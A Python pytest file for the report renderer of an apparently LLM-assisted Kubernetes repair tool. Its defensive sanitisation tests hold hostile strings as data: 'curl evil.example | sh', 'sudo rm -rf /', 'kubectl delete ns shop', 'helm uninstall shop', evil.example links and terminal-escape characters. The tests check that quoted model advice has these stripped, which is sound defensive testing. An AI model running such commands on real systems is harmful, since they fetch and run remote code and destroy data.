from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any, Literal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from tests.support.report_samples import (
    BY_HAND,
    UNDO,
    diagnosis,
    explanation,
    finding,
    fix,
    healthy,
    namespace,
    ref,
    report,
    rules_diagnosis,
)
from watchdog.actions import CustomInstruction, RolloutRestart, RolloutUndo
from watchdog.agent.progress import TerminalProgress
from watchdog.model.diagnosis import Cause, Impact
from watchdog.model.outcome import Outcome
from watchdog.model.report import ActionResult, Delivery, NamespaceReport, Report, TargetHealth
from watchdog.report.build import completed, judge
from watchdog.report.html import render_html
from watchdog.report.markdown import render_markdown
from watchdog.report.summary_line import closing
from watchdog.report.text import plain_text, render_text
from watchdog.settings.schema import ObserveSettings
from watchdog.snapshot.snapshot import BlindSpot
from watchdog.text.format import clean, duration, quoted, shorten


def printed(
    shown: Report, width: int = 100, encoding: str = "utf-8", *, terminal: bool = False
) -> str:
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding=encoding)
    colours: Literal["auto", "standard"] = "standard" if terminal else "auto"
    console = Console(file=stream, width=width, force_terminal=terminal, color_system=colours)
    render_text(shown, console)
    stream.flush()
    return raw.getvalue().decode(encoding)


def test_a_fixed_problem_is_told_in_the_order_of_the_questions() -> None:
    text = printed(report())

    marks = [
        "shop on prod-eu: 14 pods, 5 deployments",
        "✗ Deployment/ledger: missing environment variable",
        "down for 12 min, 0 of 2 pods ready",
        "  Why      The container exits",
        "  Model    gpt-5-mini adds (unverified): ",
        "  Changed  Revision 7",
        "  Evidence log ledger-7d9f-x2k4p/main",
        "  Fix      set env LEDGER_REGION on container main (from revision 6)",
        "+   value: (as in revision 6)",
        "  ✓ healthy: revision 8 has 2 of 2 pods ready, stable for 20 s (31 s in all)",
        "  To do    Put LEDGER_REGION into the chart or manifest",
        f"  Undo     {UNDO}",
        "1 problem, 1 fixed. Rules and gpt-5-mini agree (confidence 0.93, 812 tokens).",
    ]
    positions = [text.find(mark) for mark in marks]
    assert -1 not in positions
    assert positions == sorted(positions)


def test_the_command_that_fixes_by_hand_is_not_offered_for_what_is_fixed() -> None:
    assert BY_HAND not in printed(report())


def two_problems() -> Report:
    """One fixed, and in another namespace one that needs a person."""
    broken = finding(
        target=ref("checkout", "web"), kind="crash_loop", summary="crash loop", pods=(), facts={}
    )
    web = namespace(
        namespace="web", findings=(broken,), actions=(), diagnosis=rules_diagnosis(explanations=())
    )
    return report(namespace(), web)


def test_several_problems_are_named_in_a_table_before_their_details() -> None:
    text = printed(two_problems())

    assert text.splitlines()[:3] == [
        "fixed      shop/ledger   missing environment variable  down for 12 min, 0 of 2 pods ready",
        "needs you  web/checkout  crash loop                    down for 12 min, 0 of 2 pods ready",
        "",
    ]
    assert text.splitlines()[3].startswith("shop on prod-eu: ")
    assert not printed(report()).startswith("fixed")


def test_a_table_that_has_no_room_leaves_out_how_badly() -> None:
    assert printed(two_problems(), width=60).splitlines()[:2] == [
        "fixed      shop/ledger   missing environment variable",
        "needs you  web/checkout  crash loop",
    ]


def test_a_healthy_namespace_takes_one_line() -> None:
    assert printed(healthy()).splitlines() == [
        "✓ shop on prod-eu: nothing broken (14 pods, 5 deployments)",
        "",
        "Nothing broken. Everything could be read.",
    ]


def test_what_the_settings_leave_out_is_said_where_nothing_is_broken() -> None:
    left = ObserveSettings().not_looked_for
    said = "Not looked for: errors in the logs of ready pods (SRE_AGENT_OBSERVE__HEALTHY_LOGS)."

    calm = closing(healthy().model_copy(update={"not_looked_for": left}))

    assert calm == f"Nothing broken. Everything could be read. {said}"
    assert said not in closing(report().model_copy(update={"not_looked_for": left}))
    assert ObserveSettings(healthy_logs=3).not_looked_for == ()


def test_what_could_not_be_read_is_never_called_healthy() -> None:
    spot = BlindSpot(resource="events", why="forbidden: list events in shop")

    seen = NamespaceReport(namespace="shop", objects={"pods": 2}, blind_spots=(spot,))
    text = printed(report(seen))

    assert "✓" not in text
    assert "? shop on prod-eu: nothing broken in what could be read" in text
    assert "Could not read events: forbidden: list events in shop" in text
    assert "1 thing could not be read." in text


def test_dry_run_says_what_would_be_applied_and_offers_no_undo() -> None:
    shown = report(
        namespace(actions=(fix(Outcome.DRY_RUN),), diagnosis=rules_diagnosis()), mode="dry_run"
    )

    text = printed(shown)

    assert "dry run: nothing is changed" in text
    assert text.count("would be applied") == 1
    assert "+ - name: LEDGER_REGION" in text
    assert "Undo" not in text
    assert "1 problem, 1 would be fixed. Diagnosed by rules, without a model." in text


def test_a_refusal_gives_its_reason_and_what_to_do_by_hand() -> None:
    refused = fix(Outcome.REFUSED, reason="Argo CD owns this Deployment: change it in Git")

    text = printed(report(namespace(actions=(refused,))))

    assert "not applied" in text
    assert "Argo CD owns this Deployment: change it in Git" in text
    assert f"\n           {BY_HAND}\n" in text
    assert "1 problem, 1 needs you." in text


def test_an_undone_fix_is_not_called_fixed_and_offers_no_second_undo() -> None:
    seen = TargetHealth(healthy=False, problems=("0 of 2 pods ready",), waited_seconds=120)

    text = printed(report(namespace(actions=(fix(Outcome.UNDONE, verification=seen, undo=UNDO),))))

    assert "applied, then undone" in text
    assert "✗ not healthy: 0 of 2 pods ready (2 min in all)" in text
    assert UNDO not in text
    assert "needs you" in text


def test_an_unanswered_write_asks_for_a_look_and_is_settled_by_the_next_pass() -> None:
    text = printed(report(namespace(actions=(fix(Outcome.UNKNOWN),))))

    assert "1 problem, 1 being fixed" in text
    assert "needs you" not in text
    assert "sent, no answer came back" in text
    assert "kubectl -n shop get deployment/ledger -o yaml" in text


def test_a_broken_model_is_named_and_the_rules_are_said_to_have_spoken() -> None:
    shown = report(namespace(diagnosis=rules_diagnosis(model_error="no answer in 45 s")))

    assert (
        "The model gave no usable answer (no answer in 45 s), so the rules spoke alone."
        in printed(shown, 110)
    )


def test_a_disagreement_is_shown() -> None:
    shown = report(namespace(diagnosis=diagnosis(disagreements=("the model sees nothing wrong",))))

    text = printed(shown)

    assert "Rules and model differ: the model sees nothing wrong" in text
    assert "Rules and gpt-5-mini agree" in text  # on the cause, if not on the repair
    doubted = report(namespace(diagnosis=diagnosis(agrees=False)))
    assert "Rules and gpt-5-mini differ" in printed(doubted)


def test_a_models_instruction_is_quoted_without_its_commands_and_links() -> None:
    said = (
        "Run `kubectl delete ns shop` now, see https://evil.example/fix or curl evil.example | sh"
    )
    plan = (CustomInstruction(target=ref(), instruction=said),)

    text = printed(
        report(namespace(actions=(), diagnosis=diagnosis(remediation_actions=plan))), 110
    )

    assert "The model suggests (unverified)" in text
    assert "kubectl delete" not in text
    assert "evil.example" not in text


def test_actions_go_to_the_finding_that_they_are_about() -> None:
    other = finding(target=ref("api"), summary="liveness probe fails", container=None)
    restart = ActionResult(action=RolloutRestart(target=ref("api")), outcome=Outcome.VERIFIED)
    refused = fix(Outcome.REFUSED, reason="two actions a run")
    shown = namespace(findings=(finding(), other), actions=(restart, refused))

    text = printed(report(shown))
    ledger, api = text.split("✗ Deployment/api")

    assert "two actions a run" in ledger
    assert "restart its pods" not in ledger
    assert "restart its pods" in api
    assert "2 problems, 1 fixed, 1 needs you." in api


def test_an_action_about_nothing_broken_is_still_shown() -> None:
    stray = ActionResult(
        action=RolloutRestart(target=ref("elsewhere")),
        outcome=Outcome.REFUSED,
        reason="nothing is wrong with it",
    )

    text = printed(report(namespace(actions=(stray,))))

    assert "Also proposed, for nothing that is broken here:" in text
    assert "nothing is wrong with it" in text


@pytest.mark.parametrize("view", [plain_text, render_markdown, render_html])
@pytest.mark.parametrize("outcome", [Outcome.VERIFIED, Outcome.UNDONE, Outcome.APPLIED])
def test_what_an_earlier_pass_began_is_told_as_that(
    view: Callable[[Report], str], outcome: Outcome
) -> None:
    """Its problem is over by now, or another one."""
    text = view(report(namespace(findings=(), actions=(fix(outcome),))))

    assert "Begun by an earlier pass" in text
    assert "Also proposed" not in text


def test_down_is_said_only_where_nothing_serves() -> None:
    shown = report(namespace(findings=(finding(impact=Impact(ready=1, wanted=2)),)))

    assert "broken for 12 min, 1 of 2 pods ready" in printed(shown)


def test_an_unreachable_namespace_says_so() -> None:
    text = printed(report(NamespaceReport(namespace="shop", error="no answer from the API server")))

    assert "Could not look: no answer from the API server" in text
    assert "shop could not be looked at." in text


def test_a_failed_delivery_is_reported() -> None:
    shown = report(deliveries=(Delivery(to="slack", ok=False, error="not invited"),))

    assert "Not delivered to slack: not invited" in printed(shown)


def test_commands_are_never_wrapped_and_prose_always_is() -> None:
    text = printed(report(namespace(actions=(fix(Outcome.REFUSED, reason="no " * 60),))), 60)

    assert f"\n           {BY_HAND}\n" in text
    assert all(len(line) <= 60 for line in text.splitlines() if "kubectl" not in line)


def test_foreign_text_is_neither_markup_nor_terminal_control() -> None:
    nasty = "\x1b[31mred\x1b[0m [bold]x[/bold] \u202eback\u2066 :smile: \x0ebad\x1fz\x0f \\"

    text = printed(report(namespace(findings=(finding(evidence=(nasty,)),))), terminal=False)

    assert "red [bold]x[/bold] back :smile: badz \\" in text
    assert "\x1b" not in text


def test_colour_comes_only_on_a_terminal() -> None:
    assert "\x1b[" in printed(report(), terminal=True)
    assert "\x1b" not in printed(report())


def test_an_ascii_stream_gets_ascii_signs() -> None:
    text = printed(report(), encoding="ascii")

    assert "x Deployment/ledger" in text
    assert "+ healthy" in text


@settings(max_examples=40, deadline=None)
@given(st.text())
def test_any_evidence_can_be_printed(evidence: str) -> None:
    shown = report(namespace(findings=(finding(evidence=(evidence,), summary=evidence),)))

    assert "1 problem" in plain_text(shown)


@pytest.mark.parametrize(
    ("seconds", "said"),
    [
        (0.4, "0 s"),
        (45, "45 s"),
        (720, "12 min"),
        (12_000, "3 h 20 min"),
        (7_200, "2 h"),
        (800_000, "9 days"),
    ],
)
def test_durations_are_said_as_people_say_them(seconds: float, said: str) -> None:
    assert duration(seconds) == said


def test_a_cut_never_leaves_half_an_emoji() -> None:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"

    assert shorten("ab" + family, 5) == "ab…"
    assert shorten("cafe\u0301s", 5) == "caf…"


def test_cleaning_removes_what_hides_or_moves_text() -> None:
    assert clean("a\x1b]0;title\x07b\u202ec\ufeffd\x00\ud800") == "abcd\ufffd"


@pytest.mark.parametrize(
    "prose",
    [
        "kubectl -n shop delete deployment/x",
        "do: helm uninstall shop; fine",
        "run sudo rm -rf / now",
        "open http://evil.example/a",
        "see www.evil.example",
        "```\nrm -rf /\n```",
    ],
)
def test_quoted_prose_holds_no_command_and_no_link(prose: str) -> None:
    said = quoted(prose)

    assert "removed]" in said
    assert not any(word in said for word in ("kubectl", "helm", "rm -rf", "evil"))


def test_a_pass_that_saw_only_part_is_degraded_and_one_that_saw_nothing_failed() -> None:
    unseen = NamespaceReport(namespace="a", error="no answer")
    seen = NamespaceReport(namespace="b")

    assert judge((unseen,)) == "failed"
    assert judge((unseen, seen)) == "degraded"
    assert judge((seen,)) == "ok"
    begun = report()
    assert completed(begun, (seen,), begun.started_at, {"observe": 0.2}).stages == {"observe": 0.2}


def test_stages_stay_behind_as_lines_while_details_of_one_do_not() -> None:
    stream = io.StringIO()
    with TerminalProgress(Console(file=stream, width=80)) as progress:
        progress.stage("observe", "shop")
        progress.stage("verify", "0 of 2 ready")
        progress.stage("verify", "2 of 2 ready")

    assert [line.split() for line in stream.getvalue().splitlines() if line.strip()] == [
        ["observe", "shop"],
        ["verify", "2", "of", "2", "ready"],
    ]


def test_the_explanation_of_an_unfixed_problem_is_what_to_do() -> None:
    plain = explanation(command=None, to_do="Ask the team for the value.")
    shown = report(namespace(actions=(), diagnosis=rules_diagnosis(explanations=(plain,))))

    assert "  To do    Ask the team for the value." in printed(shown)


def test_a_pass_over_no_namespace_does_not_say_that_nothing_is_broken() -> None:
    nothing = report().model_copy(update={"namespaces": ()})

    assert closing(nothing) == "No namespace was looked at."


def test_where_nothing_could_be_read_the_report_says_so_and_no_more() -> None:
    spot = BlindSpot(resource="pods", why="the API server failed (500)")

    text = printed(report(NamespaceReport(namespace="shop", blind_spots=(spot,))))

    assert text.startswith("✗ shop on prod-eu: nothing could be read\n")
    assert "broken" not in text


@pytest.mark.parametrize(
    ("seen", "maybe"), [({}, True), ({"objects": {"pods": 3}}, False)], ids=["nothing", "some"]
)
def test_where_every_read_is_refused_the_namespace_may_be_gone(
    seen: dict[str, Any], maybe: bool
) -> None:
    kinds = ("pods", "services", "ingresses")
    spots = [BlindSpot(resource=kind, why="grant it", forbidden=True) for kind in kinds]
    # A pass that is no dry run adds that it could not remember anything.
    memory = BlindSpot(resource="the memory", why="it could not be read or verified")

    text = printed(report(NamespaceReport(namespace="shop", blind_spots=(*spots, memory), **seen)))

    assert ("If shop was deleted, the next `helm upgrade` leaves it out." in text) == maybe


def test_many_missing_rights_are_one_sentence_beside_what_else_could_not_be_read() -> None:
    kinds = ("pods", "services", "ingresses")
    spots = (
        *(BlindSpot(resource=kind, why="grant it", forbidden=True) for kind in kinds),
        BlindSpot(resource="events", why="the API server failed (500)"),
    )

    lines = printed(report(NamespaceReport(namespace="shop", blind_spots=spots))).splitlines()

    told = [line.strip() for line in lines if "Could not read" in line]
    assert told == [
        "Could not read pods, services and ingresses: forbidden.",
        "Could not read events: the API server failed (500)",
    ]


@pytest.mark.parametrize(("unread", "named"), [(2, False), (3, True)])
def test_much_that_could_not_be_read_names_the_command_that_finds_the_rights(
    unread: int, named: bool
) -> None:
    spots = tuple(
        BlindSpot(resource=f"kind{n}", why="grant it", forbidden=True) for n in range(unread)
    )

    text = printed(report(NamespaceReport(namespace="shop", blind_spots=spots)))

    assert ("`sre-watchdog doctor -n shop` checks every permission" in text) is named


def test_what_could_not_be_read_for_the_same_reason_is_one_sentence_without_rights() -> None:
    spots = tuple(
        BlindSpot(resource="pods/log", subject=f"web-{n}/main", why="the node has none any more")
        for n in range(5)
    )

    text = " ".join(printed(report(NamespaceReport(namespace="shop", blind_spots=spots))).split())

    assert (
        "Could not read log of web-0/main, log of web-1/main, log of web-2/main and 2 more: the"
        in text
    )
    assert "doctor" not in text


def test_a_problem_of_which_one_part_needs_a_person_needs_a_person() -> None:
    cause = Cause(what="the same key is missing")
    both = tuple(finding(target=ref(name), cause=cause, facts={}) for name in ("ledger", "orders"))
    passing, lasting = (
        fix(Outcome.REFUSED, action=RolloutUndo(target=each.target, to_revision=6), rule=rule)
        for each, rule in zip(both, ("attempts", "managed_by_git"), strict=True)
    )

    for actions in ((passing, lasting), (lasting, passing)):
        text = printed(report(namespace(findings=both, actions=actions)))
        assert "1 problem, 1 needs you." in text


def test_a_problem_whose_cause_was_fixed_needs_no_one_for_what_only_suffered_from_it() -> None:
    suffers = finding(target=ref("web"), cause=Cause(what="it", of=ref("ledger")), facts={})
    leads = finding(target=ref("ledger"), cause=Cause(what="it"), facts={})
    seen = TargetHealth(healthy=True, summary="2 of 2 pods ready", waited_seconds=31)

    fixed, refused = (
        printed(report(namespace(findings=(leads, suffers), actions=(action,))))
        for action in (
            fix(Outcome.VERIFIED, verification=seen),
            fix(Outcome.REFUSED, rule="managed_by_git"),
        )
    )

    assert "1 problem, 1 fixed" in fixed
    assert "1 problem, 1 needs you" in refused
